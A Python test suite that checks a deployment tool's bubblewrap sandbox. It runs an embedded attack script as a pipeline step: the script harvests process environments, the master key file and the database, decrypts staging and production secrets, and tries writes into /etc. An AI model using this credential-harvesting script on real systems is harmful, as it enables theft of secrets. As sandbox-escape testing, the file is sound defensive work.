"""Steps as untrusted code, performed for real against `stageline worker` processes.

1. A dev `run:` step that names no secret goes looking for the worker's master key and
   database (its parent's environment, every process's, STAGELINE_HOME, the key file, the
   SQLite file, the worker's cwd) and decrypts with the worker's Python and stageline's own
   code. In the sandbox it finds none of it and can write nowhere but its own space; with the
   operator's opt-out the same step prints every staging and production secret (which is what
   the opt-out's warning says, and proves the attack is real).
6. A step's detached grandchildren die with a SIGKILLed worker.
And the worker refuses to start without bubblewrap unless the operator opts out.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from sqlalchemy import select

from models.promotion import PromotionInput, promotion_workflow_id
from store.tables import AuditEvent, StepRun
from tests.conftest import KEY_TEXT, STAGELINE, clean_environ
from tests.http_recorder import recorder
from tests.stack import Stack, outcome, stack
from tests.workflows import scenario
from workflows import contract

VENV_BIN = str(Path(sys.executable).parent)
RAW_KEY = "k" * 32  # KEY_TEXT decoded: the key itself, should a step print it raw
STOLEN = [KEY_TEXT, RAW_KEY, *scenario.SECRETS.values()]

ATTACK = r"""
import asyncio, glob, json, os, sqlite3, sys
home, key_file, db, worker_cwd, outside, loot, tag, mode = sys.argv[1:9]
found = {"environ": {}, "files": {}, "errors": [], "decrypted": {}, "writes": {}, "db_rows": None}

def read(path):
    try:
        with open(path, "rb") as f:
            return f.read(1 << 20).decode(errors="replace")
    except OSError as exc:
        found["errors"].append(f"{path}: {exc.strerror}")

# The worker's environment (the step's parent, unsandboxed), pid 1's, everyone's.
stolen = {}
ppid = os.getppid()
for path in [f"/proc/{ppid}/environ", "/proc/1/environ", *sorted(glob.glob("/proc/*/environ"))]:
    text = read(path)
    if text is None:
        continue
    found["environ"][path] = text
    for item in text.split("\0"):
        name, _, value = item.partition("=")
        if name.startswith(("STAGELINE_", "TEMPORAL_")):
            stolen.setdefault(name, value)
home = stolen.get("STAGELINE_HOME", home)
key_file = stolen.get("STAGELINE_MASTER_KEY_FILE", key_file)

# Every file where the worker keeps its state, the key file and the database.
def failed(exc):
    found["errors"].append(f"{exc.filename}: {exc.strerror}")
for top in (home, worker_cwd, os.path.dirname(db)):
    for root, _, files in os.walk(top, onerror=failed):
        for name in files:
            text = read(os.path.join(root, name))
            if text is not None:
                found["files"][os.path.join(root, name)] = text
for path in (key_file, db):
    text = read(path)
    if text is not None:
        found["files"][path] = text
key = stolen.get("STAGELINE_MASTER_KEY") or (found["files"].get(key_file) or "").strip()
try:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    tables = [t for (t,) in conn.execute("select name from sqlite_master where type='table'")]
    found["db_rows"] = sum(conn.execute(f"select count(*) from {t}").fetchone()[0] for t in tables)
except Exception as exc:
    found["errors"].append(f"sqlite {db}: {exc!r}")

# Decrypt with stageline's own code, in the worker's Python.
async def decrypt():
    sys.path.insert(0, worker_cwd)
    from pathlib import Path
    from models.settings import Settings
    from services.unit import Units
    from store.database import Database
    from vault.keys import MasterKey
    settings = Settings(home=Path(home), database_url=f"sqlite+aiosqlite:///{db}", master_key=key)
    database = Database(settings.database_url)
    try:
        units = Units(database, settings, MasterKey.from_text(key, "stolen"))
        for env in ("dev", "staging", "production"):
            async with units.read() as w:
                resolved = await w.resolution.resolve(env, "web", decrypt=True)
            found["decrypted"][env] = resolved.secret_values()
    finally:
        await database.close()
try:
    asyncio.run(decrypt())
except Exception as exc:
    found["errors"].append(f"decrypt: {exc!r}")

if mode == "write":
    for where in (home, worker_cwd, os.path.dirname(db), "/etc", "/usr/local", sys.prefix, outside):
        path = os.path.join(where, f"pwned-{tag}")
        try:
            with open(path, "w") as f:
                f.write("x")
            found["writes"][path] = "written"
        except OSError as exc:
            found["writes"][path] = exc.strerror
    for path in (db, "/step/own", "/tmp/own"):
        try:
            with open(path, "a") as f:
                f.write("x")
            found["writes"][path] = "written"
        except OSError as exc:
            found["writes"][path] = exc.strerror

with open(os.path.join(loot, "loot.json"), "w") as f:
    json.dump(found, f)
print("decrypted:", json.dumps(found["decrypted"]))
print("read", len(found["environ"]), "environs and", len(found["files"]), "files;",
      "db rows:", found["db_rows"], "; errors:", len(found["errors"]))
"""


def pipeline(argv: list[str]) -> str:
    return yaml.safe_dump({"steps": [{"name": "attack", "run": argv}]}, width=10_000)


@pytest.fixture
async def ws(temporal: Any, tmp_path: Path) -> AsyncIterator[Stack]:
    with recorder() as hooks:
        async with stack(temporal, tmp_path / "home") as s:
            await scenario.build(s, hooks.url)
            yield s


class Worker:
    """One `stageline worker` process on a queue of its own, in a cwd of its own."""

    def __init__(self, s: Stack, tmp_path: Path, env: dict[str, str], *args: str) -> None:
        self.queue = f"sandbox-{uuid.uuid4().hex[:8]}"
        self.cwd = tmp_path / "worker"
        self.cwd.mkdir(exist_ok=True)
        self.log = tmp_path / "worker.log"
        full = {**s.cli().env, "STAGELINE_TASK_QUEUE": self.queue, **env}
        with open(self.log, "ab") as out:
            self.process = subprocess.Popen(
                [STAGELINE, "worker", *args], env=full, cwd=self.cwd, stdout=out, stderr=out
            )

    async def serving(self) -> str:
        for _ in range(300):
            text = self.log.read_text() if self.log.exists() else ""
            if "worker serving task queue" in text:
                return text
            assert self.process.poll() is None, text
            await asyncio.sleep(0.1)
        raise AssertionError(self.log.read_text())

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.terminate()
            self.process.wait(timeout=30)


async def promote(s: Stack, worker: Worker, version: str) -> Any:
    return await contract.start(
        s.client,
        contract.PROMOTION,
        PromotionInput(app="web", version=version, target="dev", requested_by="t", source="api"),
        id=promotion_workflow_id("web", version, "dev"),
        task_queue=worker.queue,
    )


async def step_output(s: Stack) -> str:
    async with s.db.read() as session:
        return "\n".join(o or "" for o in await session.scalars(select(StepRun.output)))


async def attack(
    s: Stack, tmp_path: Path, outside: Path, env: dict[str, str], mode: str
) -> tuple[str, dict[str, Any], str]:
    """Run the attack as a dev step on a real worker; its output and what it wrote."""
    key_file = tmp_path / "master.key"
    key_file.write_text(KEY_TEXT + "\n")
    key_file.chmod(0o600)
    loot = tmp_path / "loot"
    loot.mkdir()
    tag = uuid.uuid4().hex
    worker = Worker(
        s,
        tmp_path,
        # The key in both forms the finding names: in the environment, and in a file.
        {"STAGELINE_MASTER_KEY_FILE": str(key_file), **env},
    )
    # Where operators keep such things: an .env file in the worker's directory.
    (worker.cwd / ".env").write_text(f"STAGELINE_MASTER_KEY={KEY_TEXT}\n")
    try:
        await worker.serving()
        db = s.settings.database_url.removeprefix("sqlite+aiosqlite:///")
        argv = [str(s.home), str(key_file), db, str(worker.cwd), str(outside), str(loot), tag, mode]
        await s.releases.create_release(
            "web", "1.0.0", pipeline([sys.executable, "-c", ATTACK, *argv]), actor="t"
        )
        result = await asyncio.wait_for(outcome(await promote(s, worker, "1.0.0")), 120)
        assert result.status == "deployed", result.reason
    finally:
        worker.stop()
    loot_text = (loot / "loot.json").read_text()
    return await step_output(s), json.loads(loot_text), loot_text


async def test_a_dev_step_finds_no_key_no_database_and_no_secret(
    ws: Stack, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("undeclared")
    # The test's directory is declared writable (so the step can leave its loot there); it
    # holds STAGELINE_HOME with the database, the key file and the worker's cwd.
    output, loot, loot_text = await attack(
        ws, tmp_path, outside, {"STAGELINE_STEP_PATHS": f"{tmp_path}:rw"}, "write"
    )
    print(output, "\nerrors:", *loot["errors"], "\nwrites:", loot["writes"], sep="\n")
    for value in STOLEN:
        assert value not in output, "a secret or the master key in the step's output"
        assert value not in loot_text, "a secret or the master key where the step wrote"
    # Anywhere else it could write: the declared directory (its work dir and /tmp are gone).
    for path in tmp_path.rglob("*"):
        if path.is_file() and path not in (tmp_path / "master.key", tmp_path / "worker" / ".env"):
            data = path.read_bytes()
            for value in STOLEN:
                assert value.encode() not in data, f"{value} in {path}"
    assert loot["decrypted"] == {}
    assert any("decrypt: ModuleNotFoundError" in e for e in loot["errors"]), loot["errors"]
    assert loot["db_rows"] is None
    # Only its own sandbox's processes: bwrap's init and itself (no worker, no pytest).
    pids = {path.split("/")[2] for path in loot["environ"]} - {"self", "thread-self"}
    assert pids <= {"1", "2"}, pids
    # ...and each holds the step's own environment, nothing of the worker's.
    for environ in loot["environ"].values():
        assert "STAGELINE_RUN_ID=" in environ and "STAGELINE_MASTER_KEY" not in environ
        assert "STAGELINE_HOME" not in environ and "TEMPORAL_ADDRESS" not in environ
    assert loot["files"] == {}, list(loot["files"])
    # It could write its own space only; nothing reached the host.
    writes = loot["writes"]
    assert writes.pop("/step/own") == "written" and writes.pop("/tmp/own") == "written"
    assert all(outcome != "written" for outcome in writes.values()), writes
    assert not [path for path in writes if "pwned-" in path and Path(path).exists()]
    assert not list(outside.iterdir())


async def test_with_the_opt_out_the_same_step_prints_every_secret(
    ws: Stack, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """What the opt-out's warning means: this is finding 1 as reported."""
    outside = tmp_path_factory.mktemp("undeclared")
    output, loot, loot_text = await attack(
        ws, tmp_path, outside, {"STAGELINE_ALLOW_UNSANDBOXED_STEPS": "1"}, "read"
    )
    print(output, "\nfiles read:", *loot["files"], sep="\n")
    for (env, _), value in scenario.SECRETS.items():
        if env in ("staging", "production"):
            assert value in output, f"{value} not found unsandboxed: {output}"
    assert KEY_TEXT in loot_text and loot["db_rows"]


# -- finding 6 -------------------------------------------------------------------------------


def processes_with(tag: str) -> list[int]:
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            with contextlib.suppress(OSError):
                if tag.encode() in (proc / "cmdline").read_bytes():
                    found.append(int(proc.name))
    return found


SPAWN = r"""
import subprocess, sys, time
tag, ready = sys.argv[1], sys.argv[2]
sleeper = "import time; time.sleep(300)"
# A grandchild in a session of its own, and an orphan a shell left behind.
subprocess.Popen([sys.executable, "-c", sleeper, tag], start_new_session=True)
subprocess.Popen(["sh", "-c", f"{sys.executable} -c '{sleeper}' {tag} &"])
time.sleep(1)
open(ready, "w").write("spawned")
time.sleep(300)
"""


async def test_no_descendant_of_a_step_outlives_a_killed_worker(ws: Stack, tmp_path: Path) -> None:
    tag = f"grandchild-{uuid.uuid4().hex}"
    ready = tmp_path / "ready"
    worker = Worker(ws, tmp_path, {"STAGELINE_STEP_PATHS": f"{tmp_path}:rw"})
    try:
        await worker.serving()
        await ws.releases.create_release(
            "web", "1.0.0", pipeline([sys.executable, "-c", SPAWN, tag, str(ready)]), actor="t"
        )
        await promote(ws, worker, "1.0.0")
        await scenario.wait_for_line(ready, "spawned")
        # bwrap (outside and init), the step, and the two grandchildren.
        assert len(processes_with(tag)) >= 3
        worker.process.send_signal(signal.SIGKILL)
        worker.process.wait()
        deadline = time.monotonic() + 10
        while processes_with(tag) and time.monotonic() < deadline:
            await asyncio.sleep(0.1)
        assert processes_with(tag) == []
    finally:
        worker.stop()
        for pid in processes_with(tag):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)


# -- start-up --------------------------------------------------------------------------------


def bare_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    """No bwrap on PATH (only the venv's own programs); a key; Temporal nowhere."""
    env = clean_environ()
    env.update(
        PATH=VENV_BIN,
        STAGELINE_HOME=str(tmp_path / "home"),
        STAGELINE_MASTER_KEY=KEY_TEXT,
        TEMPORAL_ADDRESS="127.0.0.1:9",
    )
    env.update(extra)
    return env


def test_without_bwrap_the_worker_refuses_to_start_and_says_what_to_do(tmp_path: Path) -> None:
    done = subprocess.run(
        [STAGELINE, "worker"], env=bare_env(tmp_path), capture_output=True, text=True, timeout=60
    )
    # 3 (configuration), not 5: it refused before trying to reach Temporal.
    assert done.returncode == 3, done.stderr
    assert "apt-get install bubblewrap" in done.stderr
    assert "--allow-unsandboxed-steps" in done.stderr
    assert "STAGELINE_ALLOW_UNSANDBOXED_STEPS=1" in done.stderr


@pytest.mark.parametrize(
    ("paths", "says"),
    [("relative/dir", "must be absolute"), ("/nonexistent-stageline-path", "does not exist")],
)
def test_a_bad_declared_path_stops_the_worker(tmp_path: Path, paths: str, says: str) -> None:
    env = bare_env(tmp_path, PATH=os.environ["PATH"], STAGELINE_STEP_PATHS=paths)
    done = subprocess.run(
        [STAGELINE, "worker"], env=env, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 3 and says in done.stderr and "STAGELINE_STEP_PATHS" in done.stderr


async def test_with_the_opt_out_the_worker_starts_warns_and_audits(
    ws: Stack, tmp_path: Path
) -> None:
    env = {"PATH": VENV_BIN}
    worker = Worker(ws, tmp_path, env, "--allow-unsandboxed-steps")
    try:
        log = await worker.serving()
    finally:
        worker.stop()
    assert "WARNING" in log and "STEPS RUN UNSANDBOXED (--allow-unsandboxed-steps" in log
    async with ws.db.read() as session:
        actions = list(await session.scalars(select(AuditEvent.action)))
    assert "worker.unsandboxed_steps" in actions


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def test_without_bwrap_stageline_dev_refuses_too(tmp_path: Path) -> None:
    done = subprocess.run(
        [STAGELINE, "dev", "--port", str(free_port()), "--ui-port", str(free_port())],
        env=bare_env(tmp_path),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 3, done.stderr
    assert "apt-get install bubblewrap" in done.stderr
    assert "--allow-unsandboxed-steps" in done.stderr
    # Refused before anything started: no Temporal server, no database.
    assert "Temporal UI" not in done.stderr
    assert not (tmp_path / "home" / "temporal.db").exists()
    assert not (tmp_path / "home" / "stageline.db").exists()
